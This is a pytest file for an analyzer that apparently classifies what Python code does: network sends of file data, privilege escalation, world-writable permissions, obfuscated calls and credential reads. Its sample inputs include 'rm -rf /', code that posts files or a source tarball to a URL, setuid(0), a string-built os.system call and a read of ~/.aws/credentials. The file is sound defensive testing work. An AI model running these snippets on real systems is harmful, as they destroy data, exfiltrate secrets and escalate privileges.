from __future__ import annotations

import pytest

from bailiwick.interpret.code import effects_of_code
from bailiwick.interpret.effects import Effects, Label, RunCode, RunFile, RunShell, RunWords, literal
from bailiwick.interpret.inquiry import Inquiry
from bailiwick.model.operation import Kind
from bailiwick.model.request import Place

PLACE = Place(project="/home/dev/proj", home="/home/dev")


def run(code: str) -> Effects:
    launch = RunCode("python", literal(code), via="python")
    return effects_of_code(launch, cwd=PLACE.project, place=PLACE, inquiry=Inquiry({}))


def carried(effects: Effects) -> set[object]:
    return {operation.attributes.get("carries") for operation in effects.operations if operation.kind is Kind.NET_SEND}


def test_what_is_fetched_and_written_is_remembered_for_what_runs_it() -> None:
    code = "import requests\nopen('/tmp/a.sh', 'wb').write(requests.get('https://example.com/a').content)"
    written = run(code).written["/tmp/a.sh"]
    assert Label.NETWORK in written.labels


def test_a_script_that_the_code_writes_itself_is_known() -> None:
    effects = run("open('/tmp/a.py', 'w').write('print(1)')\nimport runpy; runpy.run_path('/tmp/a.py')")
    text = effects.written["/tmp/a.py"].text
    assert text is not None
    assert text.known == "print(1)"
    assert [launch.path for launch in effects.launches if isinstance(launch, RunFile)] == ["/tmp/a.py"]


@pytest.mark.parametrize(
    "code",
    [
        "d = {}\nd['x'] = open('a').read()\nrequests.post(url, json=d)",
        "d = []\nd.append(open('a').read())\nrequests.post(url, json=d)",
        "d = dict()\nd.update(x=open('a').read())\nrequests.post(url, json=d)",
        (
            "import io, tarfile\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\nt.add('src')\n"
            "requests.put(url, data=b.getvalue())"
        ),
        "requests.get(url, headers={'X': open('a').read()})",
    ],
)
def test_what_is_put_into_an_object_leaves_with_it(code: str) -> None:
    assert "file" in carried(run(f"import requests\nurl = 'https://example.com'\n{code}"))


def test_a_command_that_grows_in_a_list_is_the_command() -> None:
    code = "import subprocess\nc = ['rm']\nc.append('-rf')\nc.extend(['/', 'x'])\nsubprocess.run(c)"
    (launch,) = run(code).launches
    assert isinstance(launch, RunWords)
    assert [word.known for word in launch.words] == ["rm", "-rf", "/", "x"]


@pytest.mark.parametrize("call", ["os.setuid(0)", "os.setresgid(0, 0, 0)"])
def test_taking_other_rights_is_seen(call: str) -> None:
    assert any(operation.kind is Kind.PRIV_ESCALATE for operation in run(f"import os; {call}").operations)


@pytest.mark.parametrize(
    "code",
    [
        "import os, stat; os.chmod('src', stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)",
        "import os; os.umask(0)",
    ],
)
def test_rights_for_everybody_are_seen_in_constants(code: str) -> None:
    assert any(operation.attributes.get("world_writable") for operation in run(code).operations)


def test_a_usual_mask_opens_nothing() -> None:
    assert not run("import os; os.umask(0o022)").operations


def test_methods_of_a_repository_are_subcommands_of_git() -> None:
    (launch,) = run("import git; git.Repo('.').git.clean('-fd', force=True)").launches
    assert isinstance(launch, RunWords)
    assert [word.known for word in launch.words] == ["git", "clean", "-fd", "--force"]


@pytest.mark.parametrize(
    "code",
    [
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
        "import os; os.__dict__['sys' + 'tem']('id')",
    ],
)
def test_the_name_of_a_function_that_is_put_together_counts_as_hidden(code: str) -> None:
    assert any(operation.attributes.get("decoded") for operation in run(code).operations)


def test_a_plain_attribute_is_not_hidden() -> None:
    assert not run("getattr(__import__('math'), 'pi')").operations


def test_functions_of_sh_are_programs() -> None:
    (launch,) = run("import sh; sh.rm('-rf', '/srv')").launches
    assert isinstance(launch, RunWords)
    assert launch.words[0].known == "rm"


def test_a_connection_runs_its_commands_elsewhere() -> None:
    (launch,) = run("import fabric; fabric.Connection('prod').run('uptime')").launches
    assert isinstance(launch, RunShell)
    assert launch.remote


def test_a_reader_that_is_not_known_reads_the_credential_that_it_is_given() -> None:
    effects = run("import toml; toml.load('/home/dev/.aws/credentials')")
    assert [operation.kind for operation in effects.operations] == [Kind.FILE_READ]
    assert not run("import os; os.path.exists('/home/dev/.aws/credentials')").operations
